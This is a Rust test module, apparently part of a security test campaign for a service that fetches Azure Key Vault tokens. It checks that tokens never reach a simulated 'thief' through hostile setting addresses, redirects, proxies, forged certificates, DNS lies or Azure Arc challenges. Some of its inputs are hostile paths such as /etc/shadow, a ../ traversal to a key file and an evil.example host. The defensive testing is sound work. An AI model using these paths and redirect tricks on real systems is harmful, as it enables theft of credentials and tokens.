//! Everything that could lead a token to another host: addresses in settings, redirects, challenges, answers, and a name
//! service that leads every name to a thief who has a trusted certificate for his own.

mod lures;

use std::collections::BTreeSet;
use std::fs;
use std::io::Write;
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use anyhow::{Context, Result, anyhow, ensure};
use serde_json::{Value, json};
use tests::arc::Challenge;
use tests::azure::Addresses;
use tests::dns::NameServer;
use tests::fault::{Fault, Scope, Times};
use tests::http::Server;
use tests::story::{Story, finish, observing, wait_for};
use tests::thief::{self, Thief};
use tests::tls::Tls;
use tests::world::World;

use crate::figures::{Figures, Size};
use lures::{addresses, challenges, lures, redirects};

/// The only audience that a token is ever asked for here.
const AUDIENCE: &str = "https://vault.azure.net";
const VAULT: &str = "contoso.vault.azure.net";
/// So many characters of a token are a part of it; shorter ones are in other texts as well.
const PIECE: usize = 12;

/// A machine beside a thief, who is whoever has no address of his own.
struct Scene {
    story: Story,
    names: NameServer,
    thief: Thief,
}

impl Scene {
    fn begin(addresses: Addresses) -> Result<Self> {
        let story = Story::begin_with(addresses)?;
        story.put("web")?;
        let names = NameServer::leading_to(story.world(), thief::ADDRESS)?;
        let thief = Thief::start(&story.authority)?;
        Ok(Self { story, names, thief })
    }

    /// One pass with these settings and variables. Answers its exit code.
    fn pass(&self, settings: &Value, environment: &[(&str, &str)]) -> Result<Option<i32>> {
        let path = self.story.write_settings(settings)?;
        let mut command = self.story.service(&["sync", path.to_str().context("no text")?])?;
        Ok(finish(command.envs(environment.iter().copied()))?.code)
    }

    /// A pass while something goes wrong.
    fn pass_with(&self, scope: &Scope, fault: Fault) -> Result<()> {
        self.story.azure.fault(scope.clone(), fault, Times::Always);
        self.pass(&observing(&[json!(self.story.url("web"))]), &[])?;
        self.story.azure.repair(scope);
        Ok(())
    }

    /// How many bytes of tokens, and of keys of the Arc agent, the thief has got.
    fn stolen(&self) -> usize {
        let heard = self.thief.heard();
        let mut secrets = self.story.azure.token_texts();
        secrets.extend(self.story.azure.arc(|agent| agent.keys()));
        let pieces: BTreeSet<&[u8]> = secrets.iter().flat_map(|secret| secret.as_bytes().windows(PIECE)).collect();
        let found = heard.windows(PIECE).filter(|window| pieces.contains(window)).count();
        if found == 0 { 0 } else { found + PIECE - 1 }
    }

    /// Requests for tokens that are for something else than the vaults, and tokens that went to another vault.
    fn misled(&self) -> usize {
        let requests = self.story.azure.requests();
        let asks = |server| matches!(server, Server::Imds | Server::Arc);
        let elsewhere = requests.iter().filter(|request| match request.server {
            server if asks(server) => request.parameter("resource") != Some(AUDIENCE),
            _ => request.header("authorization").is_some() && request.host != VAULT,
        });
        elsewhere.count()
    }
}

/// What was tried of a kind, and what came of it.
fn tell(figures: &mut Figures, what: &str, tried: usize, scene: &Scene) {
    figures.note(&format!("{what}: tried"), tried);
    figures.exactly(&format!("{what}: bytes of a token at the thief"), scene.stolen(), 0);
    figures.exactly(&format!("{what}: tokens for others or at others"), scene.misled(), 0);
}

pub(crate) fn run(size: Size, figures: &mut Figures) -> Result<()> {
    let step = size.of(13, 1, 1);
    let mut total = 0;
    for part in [in_settings, in_answers, from_the_agent, on_the_way] {
        // A thread can enter a few worlds only.
        let ended = thread::scope(|scope| scope.spawn(|| part(step, figures)).join());
        total += ended.map_err(|_| anyhow!("a thread of the campaign panicked"))??;
    }
    figures.at_least("tried in all", total, size.of(40, 300, 300));
    Ok(())
}

fn in_settings(step: usize, figures: &mut Figures) -> Result<usize> {
    let scene = Scene::begin(Addresses::real())?;
    let all = addresses();
    let mut taken = vec![];
    let mut tried = 0;
    for settings in all.iter().step_by(step) {
        tried += 1;
        if scene.pass(settings, &[])? != Some(2) {
            taken.push(settings.to_string());
        }
    }
    ensure!(taken.is_empty(), "not refused: {taken:#?}");
    tell(figures, "hostile addresses in settings", tried, &scene);
    figures.exactly("hostile addresses in settings: connections to the thief", scene.thief.connections(), 0);
    figures.exactly("hostile addresses in settings: names that were looked up", scene.names.questions().len(), 0);
    Ok(tried)
}

fn in_answers(step: usize, figures: &mut Figures) -> Result<usize> {
    let scene = Scene::begin(Addresses::real())?;
    scene.story.azure.create_vault("fabrikam");
    scene.story.world().connect(&scene.story.azure)?;
    let mut tried = 0;
    for fault in redirects().into_iter().chain(challenges()).step_by(step) {
        tried += 1;
        scene.pass_with(&Scope::Vaults, fault)?;
    }
    for lure in lures().iter().step_by(step) {
        tried += 1;
        scene.pass_with(&Scope::Imds, Fault::Redirect(lure.clone()))?;
    }
    ensure!(scene.story.azure.tokens_issued() > 0, "there was no token that could be stolen");
    tell(figures, "redirects, challenges and answers", tried, &scene);
    figures.exactly("redirects, challenges and answers: connections to the thief", scene.thief.connections(), 0);
    figures.exactly("redirects, challenges and answers: names that were looked up", scene.names.questions().len(), 0);

    // The search can find: a token that is handed over is seen.
    let token = scene.story.azure.token_texts().pop().context("no token")?;
    TcpStream::connect((thief::ADDRESS, 80))?.write_all(format!("GET / HTTP/1.1\r\nX: {token}\r\n\r\n").as_bytes())?;
    let seen = wait_for(Duration::from_secs(30), "token at the thief", || {
        Some(scene.stolen()).filter(|&bytes| bytes >= token.len())
    });
    figures.at_least("bytes of a token at the thief when it is told one on purpose", seen?, token.len());
    Ok(tried)
}

/// What takes the port of the Azure Arc agent.
fn from_the_agent(_: usize, figures: &mut Figures) -> Result<usize> {
    let scene = Scene::begin(Addresses::real().with_arc(40342))?;
    fs::write("/etc/secret.key", "a key that is not the agent's")?;
    let mut settings = observing(&[json!(scene.story.url("web"))]);
    settings["authenticationSettings"] = json!({"msiEndpoint": "http://localhost:40342/metadata/identity"});
    let elsewhere = [
        "/etc/shadow",
        "/etc/secret.key",
        "/var/opt/azcmagent/tokens/../../../../etc/secret.key",
        "//evil.example/x.key",
    ];
    let mut tried = 0;
    for path in elsewhere {
        scene.story.azure.arc(|agent| agent.challenge = Challenge::Elsewhere(path.to_owned()));
        scene.pass(&settings, &[])?;
        tried += 1;
    }
    scene.story.azure.arc(|agent| agent.challenge = Challenge::Fair);
    for lure in lures() {
        scene.story.azure.fault(Scope::Arc, Fault::Redirect(lure), Times::Always);
        scene.pass(&settings, &[])?;
        scene.story.azure.repair(&Scope::Arc);
        tried += 1;
    }
    tell(figures, "an agent of Azure Arc that leads elsewhere", tried, &scene);
    figures.exactly(
        "an agent of Azure Arc that leads elsewhere: connections to the thief",
        scene.thief.connections(),
        0,
    );
    Ok(tried)
}

/// Proxies that are not for tokens, certificates that prove nothing, and a name service that lies about the vault itself.
fn on_the_way(_: usize, figures: &mut Figures) -> Result<usize> {
    let scene = Scene::begin(Addresses::real())?;
    let settings = observing(&[json!(scene.story.url("web"))]);
    let mut tried = 0;
    let thief = format!("http://{}:3128", thief::DOMAIN);
    for variable in ["HTTP_PROXY", "http_proxy"] {
        let code = scene.pass(&settings, &[(variable, &thief)])?;
        ensure!(code == Some(0), "{variable}: a proxy that is not for vaults stops the pass: {code:?}");
        tried += 1;
    }
    figures.exactly("a proxy for something else: connections to the thief", scene.thief.connections(), 0);
    // A proxy that stands in for the vault with a certificate of its own making.
    for variable in ["HTTPS_PROXY", "https_proxy", "ALL_PROXY"] {
        scene.pass(&settings, &[(variable, &thief)])?;
        tried += 1;
    }
    for tls in [Tls::WrongName, Tls::Expired, Tls::NotYetValid, Tls::SelfSigned, Tls::UnknownAuthority] {
        scene.story.azure.vault("contoso", |vault| vault.tls = tls)?;
        scene.story.azure.forget_requests();
        scene.pass(&settings, &[])?;
        ensure!(scene.story.azure.requests_to(Server::Vault).is_empty(), "{tls:?}: a request was made");
        tried += 1;
    }
    lie_about_the_vault(scene.story.world())?;
    let before = scene.thief.connections();
    for port in ["", ":443"] {
        let code = scene.pass(&observing(&[json!(format!("https://{VAULT}{port}/secrets/web"))]), &[])?;
        ensure!(code == Some(1), "the thief passed for the vault: {code:?}");
        tried += 1;
    }
    ensure!(scene.thief.connections() > before, "the name service's lie had no effect");
    tell(figures, "proxies, false certificates, false addresses", tried, &scene);
    figures.note("proxies, false certificates, false addresses: connections to the thief", scene.thief.connections());
    Ok(tried)
}

/// Takes the vault's name out of the hosts file, so that the name service is asked.
fn lie_about_the_vault(_world: &World) -> Result<()> {
    let hosts = fs::read_to_string("/etc/hosts")?;
    let others: Vec<&str> = hosts.lines().filter(|line| !line.contains(VAULT)).collect();
    fs::write("/etc/hosts", others.join("\n") + "\n").context("/etc/hosts")
}
